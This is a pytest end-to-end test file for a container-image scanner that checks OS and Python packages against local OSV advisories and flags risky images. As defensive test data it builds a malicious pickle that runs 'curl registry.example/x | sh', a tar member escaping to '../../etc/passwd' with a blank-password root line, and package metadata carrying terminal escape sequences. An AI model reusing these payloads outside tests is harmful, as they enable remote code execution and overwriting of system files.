"""``mlgate scan --image`` end to end: images written by the tests, advisories from the local OSV
server (records written here), results read back from the JSON result, the SBOM and SARIF."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from mlgate.cli import main
from tests.image.builder import Image, Layer, write_docker_save, write_oci_layout
from tests.inspect.samples import call
from tests.servers.osv_server import OsvServer

DEBIAN_OS = b'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\nVERSION_ID="12"\n'
STATUS = b"""Package: libssl3
Status: install ok installed
Architecture: amd64
Source: openssl
Version: 3.0.11-1~deb12u2

Package: zlib1g
Status: install ok installed
Architecture: amd64
Source: zlib (1:1.2.13.dfsg-1)
Version: 1:1.2.13.dfsg-1
"""
APK_PATH = "/lib/apk/db/installed"
SITE = "/usr/local/lib/python3.11/site-packages"
REQUESTS_METADATA = b"Metadata-Version: 2.1\nName: requests\nVersion: 2.19.0\nLicense: Apache-2.0\n"
APK = b"""P:musl
V:1.2.4-r2
A:x86_64
L:MIT
o:musl

P:libcrypto3
V:3.1.4-r1
A:x86_64
L:Apache-2.0
o:openssl
"""


def rec(rid: str, ecosystem: str, name: str, versions: list[str], **extra: Any) -> dict[str, Any]:
    return {
        "schema_version": "1.6.0",
        "id": rid,
        "modified": "2024-01-01T00:00:00Z",
        "summary": f"{name} issue",
        "affected": [
            {"package": {"ecosystem": ecosystem, "name": name}, "versions": versions, **extra}
        ],
        "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
    }


RECORDS = [
    # Debian advisories name the source package: openssl, not libssl3
    rec("DSA-5532-1", "Debian:12", "openssl", ["3.0.11-1~deb12u2"]),
    rec("DSA-0000-1", "Debian:11", "openssl", ["3.0.11-1~deb12u2"]),  # another release
    rec("ALPINE-CVE-2024-0727", "Alpine:v3.19", "openssl", ["3.1.4-r1"]),
    rec("UBUNTU-CVE-2024-2511", "Ubuntu:22.04:LTS", "openssl", ["3.0.2-0ubuntu1.15"]),
    # Rocky (like Alma, Red Hat and SUSE) lists every binary rpm an errata fixes: openssl-libs
    rec("RLSA-2024:1234", "Rocky Linux:9", "openssl-libs", ["1:3.0.7-24.el9"]),
    rec(
        "PYSEC-2018-28",
        "PyPI",
        "requests",
        [],
        ranges=[{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.20.0"}]}],
    ),
]


@pytest.fixture(scope="module")
def osv() -> Iterator[OsvServer]:
    with OsvServer(RECORDS) as server:
        yield server


def debian_image() -> Image:
    payload = call("os", "system", "curl registry.example/x | sh")
    return Image(
        [
            Layer({"/etc/os-release": DEBIAN_OS, "/var/lib/dpkg/status": STATUS}),
            Layer(
                {
                    f"{SITE}/requests-2.19.0.dist-info/METADATA": REQUESTS_METADATA,
                    f"{SITE}/broken-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\n",
                    "/srv/models/model.pkl": payload,
                    "/srv/old/stale.pkl": payload,
                }
            ),
            Layer({}, whiteouts=["/srv/old/stale.pkl"]),  # deleted: must not be reported
        ],
        exposed_ports=["8080/tcp"],
        created="2020-01-01T00:00:00Z",
    )


def scan(tmp_path: Path, osv: OsvServer, *args: str) -> tuple[int, dict[str, Any]]:
    out = tmp_path / "out"
    out.mkdir(exist_ok=True)
    repo = tmp_path / "repo"
    repo.mkdir(exist_ok=True)
    code = main(
        [
            "-q", "scan", str(repo), *args, "--osv-url", osv.url, "--no-cache",
            "--json", str(out / "result.json"), "--sbom", str(out / "sbom.json"),
            "--sarif", str(out / "result.sarif"),
        ]
    )  # fmt: skip
    return code, json.loads((out / "result.json").read_text())


def test_oci_layout_end_to_end(tmp_path: Path, osv: OsvServer) -> None:
    layout = write_oci_layout(tmp_path / "layout", debian_image())
    code, data = scan(tmp_path, osv, "--image", str(layout))
    assert code == 1
    [container] = [c for c in data["components"] if c["kind"] == "container"]
    display = container["locations"][0]["path"]
    assert display.startswith(f"{layout}@sha256:")
    by_rule: dict[str, list[dict[str, Any]]] = {}
    for f in data["findings"]:
        by_rule.setdefault(f["rule_id"], []).append(f)
    vulns = {(f["advisory"]["id"], f["location"]["path"]) for f in by_rule["MLG-VULN"]}
    assert vulns == {
        ("DSA-5532-1", f"{display}:/var/lib/dpkg/status"),
        ("PYSEC-2018-28", f"{display}:{SITE}/requests-2.19.0.dist-info/METADATA"),
    }
    [ssl] = [f for f in by_rule["MLG-VULN"] if f["advisory"]["id"] == "DSA-5532-1"]
    assert ssl["component"].startswith("pkg:deb/debian/libssl3@")
    model = [f for f in data["findings"] if f["kind"] == "model"]
    assert model and {f["location"]["path"] for f in model} == {f"{display}:/srv/models/model.pkl"}
    assert "MLG-IMAGE-ROOT-USER" in by_rule and "MLG-IMAGE-STALE" in by_rule
    assert "MLG-IMAGE-EXPOSED-PORTS" in by_rule
    assert not any("stale.pkl" in json.dumps(f) for f in data["findings"])
    # every OS and Python package was looked up: coverage is complete
    assert data["coverage"]["checked"] == data["coverage"]["total"] == 3
    assert any("broken-1.0.dist-info" in w["path"] for w in data["warnings"])
    assert container["properties"]["mlgate:image-source"] == "oci-layout"

    sbom = json.loads((tmp_path / "out/sbom.json").read_text())
    [image] = [c for c in sbom["components"] if c["type"] == "container"]
    inside = {c["name"]: c for c in image["components"]}
    assert {"libssl3", "zlib1g", "requests"} <= set(inside)
    props = {p["name"]: p["value"] for p in inside["libssl3"]["properties"]}
    assert props["mlgate:layer"].startswith("sha256:")
    assert props["mlgate:osv-name"] == "openssl"
    sarif = json.loads((tmp_path / "out/result.sarif").read_text())
    assert sarif["runs"]


def test_docker_save_tarball_with_alpine_packages(tmp_path: Path, osv: OsvServer) -> None:
    image = Image(
        [Layer({"/etc/os-release": b"ID=alpine\nVERSION_ID=3.19.1\n", APK_PATH: APK})],
        user="app",
        created="2099-01-01T00:00:00Z",
    )  # fmt: skip
    tarball = write_docker_save(tmp_path / "serve.tar", image, repo_tag="registry.example/serve:2")
    code, data = scan(tmp_path, osv, "--image", str(tarball), "--fail-on", "critical")
    vulns = [f for f in data["findings"] if f["rule_id"] == "MLG-VULN"]
    assert [(f["advisory"]["id"], f["component"].split("@")[0]) for f in vulns] == [
        ("ALPINE-CVE-2024-0727", "pkg:apk/alpine/libcrypto3")
    ]
    assert vulns[0]["location"]["path"] == f"{tarball}:/lib/apk/db/installed"
    assert not [f for f in data["findings"] if f["rule_id"].startswith("MLG-IMAGE-")]
    assert code == 1  # the advisory's CVSS 9.8 is critical


def test_unreadable_image_exits_2_naming_it(
    tmp_path: Path, osv: OsvServer, capsys: pytest.CaptureFixture[str]
) -> None:
    tarball = write_docker_save(tmp_path / "serve.tar", debian_image())
    cut = tmp_path / "cut.tar"
    cut.write_bytes(tarball.read_bytes()[:3000])
    repo = tmp_path / "repo"
    repo.mkdir()
    code = main(["scan", str(repo), "--image", str(cut), "--osv-url", osv.url, "--no-cache"])
    err = capsys.readouterr().err
    assert code == 2
    assert str(cut) in err and "Traceback" not in err


def test_sbom_command_with_an_image(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    layout = write_oci_layout(tmp_path / "layout", debian_image())
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "requirements.txt").write_text("numpy==1.26.0\n")
    out = tmp_path / "sbom.json"
    assert main(["-q", "sbom", str(repo), "--image", str(layout), "-o", str(out)]) == 0
    sbom = json.loads(out.read_text())
    names = {c["name"] for c in sbom["components"]}
    assert "numpy" in names and str(layout) in names
    [image] = [c for c in sbom["components"] if c["type"] == "container"]
    # sbom does not scan models, so the image holds only its packages
    assert sorted(c["name"] for c in image["components"]) == ["libssl3", "requests", "zlib1g"]


def test_this_machines_root_filesystem_packages(tmp_path: Path, osv: OsvServer) -> None:
    """A real dpkg database and a real site-packages, packed into an image."""
    status = Path("/var/lib/dpkg/status")
    os_release = Path("/etc/os-release")
    if not status.is_file() or not os_release.is_file():
        pytest.skip("this machine has no dpkg database")
    import packaging

    dist = next(Path(packaging.__file__).parent.parent.glob("packaging-*.dist-info"), None)
    if dist is None:
        pytest.skip("packaging is not installed from a wheel here")
    files = {
        "/etc/os-release": os_release.read_bytes(),
        "/var/lib/dpkg/status": status.read_bytes(),
        f"{SITE}/{dist.name}/METADATA": (dist / "METADATA").read_bytes(),
    }
    layout = write_oci_layout(tmp_path / "layout", Image([Layer(files)], user="1000"))
    code, data = scan(tmp_path, osv, "--image", str(layout), "--allow-incomplete")
    names = {c["name"] for c in data["components"]}
    assert "packaging" in names
    installed = status.read_bytes().count(b"Status: install ok installed")
    os_packages = [c for c in data["components"] if c["kind"] == "os-package"]
    assert len(os_packages) == installed
    assert code in (0, 1)
    shutil.rmtree(layout)


def test_layer_member_escaping_the_root_is_a_finding(tmp_path: Path, osv: OsvServer) -> None:
    from tests.image.builder import hostile_tar

    hostile = hostile_tar([("../../etc/passwd", b"root::0:0::/:/bin/sh\n"), ("etc/ok", b"x")])
    image = Image(
        [Layer({"/etc/os-release": DEBIAN_OS}), Layer(tar=hostile)], user="app",
        created="2099-01-01T00:00:00Z",
    )  # fmt: skip
    layout = write_oci_layout(tmp_path / "layout", image)
    code, data = scan(tmp_path, osv, "--image", str(layout))
    [finding] = [f for f in data["findings"] if f["rule_id"] == "MLG-IMAGE-PATH-TRAVERSAL"]
    assert finding["severity"] == "high" and "../../etc/passwd" in finding["message"]
    assert finding["location"]["path"].startswith(f"{layout}@sha256:")
    assert code == 1
    assert not [w for w in data["warnings"] if "escapes" in w["message"]]


def test_registry_reference_and_the_sources_policy(tmp_path: Path, osv: OsvServer) -> None:
    """Pulled from Debian's docker-registry on 127.0.0.1: sources.registries and require-digest
    apply to --image references like to FROM lines."""
    from tests.image.builder import image_blobs
    from tests.image.registry_support import push, registry_binary, run_registry

    if registry_binary() is None:
        pytest.skip("docker-registry is not installed (apt-get install docker-registry)")
    policy = tmp_path / "policy.yml"
    policy.write_text("sources:\n  registries: [registry.example/approved]\n")
    with run_registry() as registry:
        digest = push(registry, "team/serve", "1.0", image_blobs(debian_image()))
        tagged = f"{registry.host}/team/serve:1.0"
        code, data = scan(tmp_path, osv, "--image", tagged, "--policy", str(policy))
        rules = {f["rule_id"] for f in data["findings"]}
        assert {"MLG-SOURCE-REGISTRY-NOT-APPROVED", "MLG-SOURCE-IMAGE-UNPINNED"} <= rules
        [container] = [c for c in data["components"] if c["kind"] == "container"]
        assert container["name"] == f"{registry.host}/team/serve"
        assert container["locations"][0]["path"] == f"{registry.host}/team/serve@{digest}"
        assert code == 1
        policy.write_text(f"sources:\n  registries: [{registry.host}/team]\n")
        pinned = f"{registry.host}/team/serve@{digest}"
        _, data = scan(tmp_path, osv, "--image", pinned, "--policy", str(policy))
        rules = {f["rule_id"] for f in data["findings"]}
        assert not rules & {"MLG-SOURCE-REGISTRY-NOT-APPROVED", "MLG-SOURCE-IMAGE-UNPINNED"}
        assert "MLG-VULN" in rules  # the packages of the pulled image were looked up


def test_ubuntu_lts_and_rocky_rpm_images(tmp_path: Path, osv: OsvServer) -> None:
    """Ubuntu's OSV spelling (``Ubuntu:22.04:LTS``) and an rpm sqlite database spooled by the
    layer walk: the deb looked up by its source package, the rpm by its own name."""
    from tests.image.rpmdb import header_blob, write_rpmdb

    ubuntu_status = (
        b"Package: libssl3\nStatus: install ok installed\nArchitecture: amd64\n"
        b"Source: openssl\nVersion: 3.0.2-0ubuntu1.15\n"
    )
    ubuntu_os = b'ID=ubuntu\nVERSION_ID="22.04"\nVERSION="22.04.4 LTS (Jammy Jellyfish)"\n'
    ubuntu = Image(
        [Layer({"/etc/os-release": ubuntu_os, "/var/lib/dpkg/status": ubuntu_status})],
        user="app", created="2099-01-01T00:00:00Z",
    )  # fmt: skip
    blob = header_blob(
        {
            "name": "openssl-libs", "version": "3.0.7", "release": "24.el9", "epoch": 1,
            "arch": "x86_64", "license": "Apache-2.0", "sourcerpm": "openssl-3.0.7-24.el9.src.rpm",
        }
    )  # fmt: skip
    rpmdb = write_rpmdb(tmp_path / "rpmdb.sqlite", [blob]).read_bytes()
    rocky = Image(
        [
            Layer({"/etc/os-release": b'ID="rocky"\nVERSION_ID="9.3"\n'}),
            Layer({"/var/lib/rpm/rpmdb.sqlite": rpmdb}, compression="zstd"),
        ],
        user="app", created="2099-01-01T00:00:00Z",
    )  # fmt: skip
    args = []
    for name, image in (("ubuntu", ubuntu), ("rocky", rocky)):
        args += ["--image", str(write_oci_layout(tmp_path / name, image))]
    code, data = scan(tmp_path, osv, *args)
    vulns = {(f["advisory"]["id"], f["component"].split("@")[0]) for f in data["findings"]}
    assert vulns == {
        ("UBUNTU-CVE-2024-2511", "pkg:deb/ubuntu/libssl3"),
        ("RLSA-2024:1234", "pkg:rpm/rocky/openssl-libs"),
    }
    ecosystems = {c["ecosystem"] for c in data["components"] if c["kind"] == "os-package"}
    assert ecosystems == {"Ubuntu:22.04:LTS", "Rocky Linux:9"}
    assert code == 1


def test_hostile_package_databases_are_warnings_and_the_scan_goes_on(
    tmp_path: Path, osv: OsvServer, capsys: pytest.CaptureFixture[str]
) -> None:
    """Databases an attacker wrote: binary noise for dpkg and apk, an rpm database that is not
    sqlite, one whose Packages is a view, metadata with escapes in its name. Each is a warning
    naming image:/path; the good metadata still counts; never exit 2 or a traceback."""
    import sqlite3

    view = tmp_path / "view.sqlite"
    conn = sqlite3.connect(view)
    conn.execute("CREATE VIEW Packages AS SELECT 1 AS hnum, zeroblob(10) AS blob")
    conn.close()
    evil = b"Metadata-Version: 2.1\nName: evil\x1b[31m](x)\nVersion: 1.0\n"
    image = Image(
        [
            Layer(
                {
                    "/etc/os-release": b"\x00\xff ID=\x1b[2J\n",
                    "/var/lib/dpkg/status": bytes(range(256)) * 64,
                    APK_PATH: b"\x00\x01\x02 not apk",
                    "/var/lib/rpm/rpmdb.sqlite": view.read_bytes(),
                    "/usr/lib/sysimage/rpm/Packages.db": b"\x00ndb" * 64,
                    f"{SITE}/evil-1.0.dist-info/METADATA": evil,
                    f"{SITE}/requests-2.19.0.dist-info/METADATA": REQUESTS_METADATA,
                }
            )
        ],
        user="app", created="2099-01-01T00:00:00Z",
    )  # fmt: skip
    layout = write_oci_layout(tmp_path / "layout", image)
    code, data = scan(tmp_path, osv, "--image", str(layout))
    assert code == 1  # requests 2.19.0 has an advisory; nothing else failed
    assert "Traceback" not in capsys.readouterr().err
    display = next(c for c in data["components"] if c["kind"] == "container")["locations"][0]
    warned = {w["path"] for w in data["warnings"]}
    for path in ("/var/lib/dpkg/status", APK_PATH, "/var/lib/rpm/rpmdb.sqlite"):
        assert f"{display['path']}:{path}" in warned, path
    names = {c["name"] for c in data["components"] if c["kind"] == "library"}
    assert names == {"requests", "evil\x1b[31m](x)"}
